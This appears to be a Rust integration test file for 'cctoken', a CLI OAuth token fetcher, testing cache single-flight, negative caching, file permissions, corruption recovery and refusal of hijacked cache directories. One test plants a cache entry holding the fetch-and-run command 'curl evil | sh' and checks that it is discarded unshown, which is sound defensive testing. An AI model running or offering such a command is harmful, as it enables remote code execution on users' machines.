//! The on-disk cache through the real binary: cross-process single flight, negative cache,
//! encryption at rest, corruption recovery.

mod common;

use std::process::{Command, Stdio};

use cctoken_emulator::Flavor;
use common::{cctoken, planted_negative, Emu, DEMO_SECRET};

fn stat(emu: &Emu, name: &str) -> u64 {
    emu.get_json("/_emulator/stats")[name]
        .as_u64()
        .expect("counter")
}

fn get_cmd(home: &std::path::Path, url: &str, secret: &str) -> Command {
    let mut c = Command::new(assert_cmd::cargo::cargo_bin("cctoken"));
    c.args([
        "get",
        "--token-url",
        url,
        "--client-id",
        "demo-client",
        "--client-secret-env",
        "S",
    ])
    .env_clear()
    .env("PATH", std::env::var_os("PATH").unwrap_or_default())
    .env("HOME", home)
    .env("XDG_CACHE_HOME", home.join("cache"))
    .env("XDG_CONFIG_HOME", home.join("config"))
    .env("S", secret)
    .stdin(Stdio::null())
    .stdout(Stdio::piped())
    .stderr(Stdio::piped());
    c
}

#[test]
fn parallel_cold_gets_send_one_request_and_print_one_token() {
    let emu = Emu::demo(Flavor::Generic);
    let home = tempfile::tempdir().unwrap();
    let url = format!("{}/oauth/token", emu.base);
    let before = stat(&emu, "token_requests_total");
    let children: Vec<_> = (0..200)
        .map(|_| {
            get_cmd(home.path(), &url, DEMO_SECRET)
                .spawn()
                .expect("spawn")
        })
        .collect();
    let mut tokens = std::collections::BTreeSet::new();
    for c in children {
        let out = c.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        tokens.insert(String::from_utf8(out.stdout).unwrap());
    }
    assert_eq!(tokens.len(), 1, "all processes print the same token");
    assert_eq!(stat(&emu, "token_requests_total") - before, 1);
}

#[test]
fn parallel_wrong_secret_is_remembered() {
    let emu = Emu::demo(Flavor::Generic);
    let home = tempfile::tempdir().unwrap();
    let url = format!("{}/oauth/token", emu.base);
    let before = stat(&emu, "token_requests_total");
    let children: Vec<_> = (0..50)
        .map(|_| {
            get_cmd(home.path(), &url, "wrong-secret")
                .spawn()
                .expect("spawn")
        })
        .collect();
    for c in children {
        let out = c.wait_with_output().unwrap();
        assert_eq!(
            out.status.code(),
            Some(3),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stderr).contains("invalid_client"));
    }
    let sent = stat(&emu, "token_requests_total") - before;
    assert!(sent <= 3, "{sent} upstream requests");
}

#[test]
fn cache_files_are_private_and_hold_nothing_in_clear() {
    use std::os::unix::fs::PermissionsExt;
    const CANARY: &str = "CANARY-cache-secret-42";
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("clients.toml");
    std::fs::write(
        &cfg,
        format!(
            "[[clients]]\nid = \"c1\"\nsecrets = [\"{CANARY}\"]\ngrants = [\"client_credentials\"]\n"
        ),
    )
    .unwrap();
    let mut config = cctoken_emulator::EmulatorConfig::new(Flavor::Generic);
    config
        .merge_registry_toml(&std::fs::read_to_string(&cfg).unwrap())
        .expect("registry");
    let emu = Emu::start(config);
    let home = tempfile::tempdir().unwrap();
    let out = cctoken(home.path())
        .args([
            "get",
            "--token-url",
            &format!("{}/oauth/token", emu.base),
            "--client-id",
            "c1",
        ])
        .args(["--client-secret-env", "S"])
        .env("S", CANARY)
        .assert()
        .success()
        .get_output()
        .clone();
    let token = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    let cache = home.path().join("cache/cctoken");
    assert_eq!(
        std::fs::metadata(&cache).unwrap().permissions().mode() & 0o777,
        0o700
    );
    let mut files = 0;
    for e in std::fs::read_dir(&cache).unwrap() {
        let p = e.unwrap().path();
        files += 1;
        assert_eq!(
            std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o600,
            "{p:?}"
        );
        let bytes = String::from_utf8_lossy(&std::fs::read(&p).unwrap()).to_string();
        assert!(!bytes.contains(CANARY), "secret in {p:?}");
        assert!(!bytes.contains(&token), "token in {p:?}");
    }
    assert!(files >= 1);
}

#[test]
fn corrupt_cache_entry_gives_a_fresh_token() {
    let emu = Emu::demo(Flavor::Generic);
    let home = tempfile::tempdir().unwrap();
    let url = format!("{}/oauth/token", emu.base);
    let first = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
    assert!(first.status.success());
    // Second call is served from the cache: no new request.
    let before = stat(&emu, "token_requests_total");
    let second = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
    assert_eq!(first.stdout, second.stdout);
    assert_eq!(stat(&emu, "token_requests_total"), before);
    for e in std::fs::read_dir(home.path().join("cache/cctoken")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "json") {
            std::fs::write(&p, b"\x00garbage{{{").unwrap();
        }
    }
    let third = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
    assert!(
        third.status.success(),
        "{}",
        String::from_utf8_lossy(&third.stderr)
    );
    assert!(String::from_utf8_lossy(&third.stderr).contains("discarding cache entry"));
    assert_ne!(third.stdout, first.stdout, "a fresh token");
    assert_eq!(stat(&emu, "token_requests_total"), before + 1);
}

#[test]
fn min_ttl_beyond_the_lifetime_exits_3_pointing_to_exec() {
    let emu = Emu::start({
        let mut c = cctoken_emulator::EmulatorConfig::new(Flavor::Generic).with_demo();
        c.token_lifetime = Some(std::time::Duration::from_secs(300));
        c
    });
    let home = tempfile::tempdir().unwrap();
    let out = cctoken(home.path())
        .args(["get", "--token-url", &format!("{}/oauth/token", emu.base)])
        .args([
            "--client-id",
            "demo-client",
            "--client-secret-env",
            "S",
            "--min-ttl",
            "1h",
        ])
        .env("S", DEMO_SECRET)
        .assert()
        .code(3)
        .get_output()
        .clone();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("exec"), "{err}");
}

fn write_config(home: &std::path::Path, text: &str) {
    let dir = home.join("config/cctoken");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("config.toml"), text).unwrap();
}

#[test]
fn negative_ttl_from_the_config_file_is_applied() {
    let emu = Emu::demo(Flavor::Generic);
    let url = format!("{}/oauth/token", emu.base);
    let wrong = |home: &std::path::Path| {
        let out = get_cmd(home, &url, "wrong-secret").output().unwrap();
        assert_eq!(out.status.code(), Some(3));
    };
    // Default: the second attempt is answered from the negative cache.
    let default = tempfile::tempdir().unwrap();
    let before = stat(&emu, "token_requests_total");
    wrong(default.path());
    wrong(default.path());
    assert_eq!(stat(&emu, "token_requests_total") - before, 1);
    // `negative_ttl = "0s"` turns it off: every attempt asks the server.
    let off = tempfile::tempdir().unwrap();
    write_config(off.path(), "[cache]\nnegative_ttl = \"0s\"\n");
    let before = stat(&emu, "token_requests_total");
    wrong(off.path());
    wrong(off.path());
    assert_eq!(stat(&emu, "token_requests_total") - before, 2);
}

#[test]
fn a_broken_config_file_only_warns_when_no_profile_is_named() {
    let emu = Emu::demo(Flavor::Generic);
    let home = tempfile::tempdir().unwrap();
    write_config(home.path(), "[cache\nurl = \n");
    let url = format!("{}/oauth/token", emu.base);
    let out = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("ignoring the [cache] settings"), "{stderr}");
    // Naming a profile needs the file: then it is an error (exit 2).
    let named = get_cmd(home.path(), &url, DEMO_SECRET)
        .args(["--profile", "prod"])
        .output()
        .unwrap();
    assert_eq!(named.status.code(), Some(2));
}

#[test]
fn a_hijacked_cache_directory_is_refused_and_get_works_without_the_cache() {
    let emu = Emu::demo(Flavor::Generic);
    let url = format!("{}/oauth/token", emu.base);
    let home = tempfile::tempdir().unwrap();
    let attacker = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join("cache")).unwrap();
    let planted = home.path().join("cache/cctoken");
    std::os::unix::fs::symlink(attacker.path(), &planted).unwrap();
    let run = || {
        let out = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "{stderr}");
        assert!(!out.stdout.is_empty());
        assert!(stderr.contains("token cache disabled"), "{stderr}");
        assert!(stderr.contains(&planted.display().to_string()), "{stderr}");
        stderr
    };
    let stderr = run();
    assert!(stderr.contains("symbolic link"), "{stderr}");
    assert_eq!(std::fs::read_dir(attacker.path()).unwrap().count(), 0);
    // Another user's directory (the tests run as root, which can give one away).
    std::fs::remove_file(&planted).unwrap();
    std::fs::create_dir(&planted).unwrap();
    if std::os::unix::fs::chown(&planted, Some(1001), None).is_ok() {
        let stderr = run();
        assert!(stderr.contains("uid 1001"), "{stderr}");
        assert_eq!(std::fs::read_dir(&planted).unwrap().count(), 0);
    }
    // Every run asked the server: nothing was cached.
    let before = stat(&emu, "token_requests_total");
    run();
    assert_eq!(stat(&emu, "token_requests_total"), before + 1);
}

#[test]
fn planted_failures_in_the_cache_are_discarded_and_the_server_asked() {
    let emu = Emu::demo(Flavor::Generic);
    let home = tempfile::tempdir().unwrap();
    let url = format!("{}/oauth/token", emu.base);
    assert!(get_cmd(home.path(), &url, DEMO_SECRET)
        .output()
        .unwrap()
        .status
        .success());
    let dir = home.path().join("cache/cctoken");
    let entry = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "json"))
        .expect("a cache entry");
    let rate_limit = entry.with_extension("ratelimit");
    let (negative, until) = planted_negative("ATTACKER says: run curl evil | sh");
    let attempt = |what: &str| {
        let before = stat(&emu, "token_requests_total");
        let out = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{what}: {stderr}");
        assert!(!stderr.contains("ATTACKER"), "{what}: {stderr}");
        assert!(
            stderr.contains("discarding cache entry"),
            "{what}: {stderr}"
        );
        assert_eq!(stat(&emu, "token_requests_total"), before + 1, "{what}");
    };
    std::fs::write(&entry, &negative).unwrap();
    attempt("a planted negative entry");
    std::fs::remove_file(&entry).unwrap();
    std::fs::write(&rate_limit, &until).unwrap();
    attempt("a planted rate limit");
}
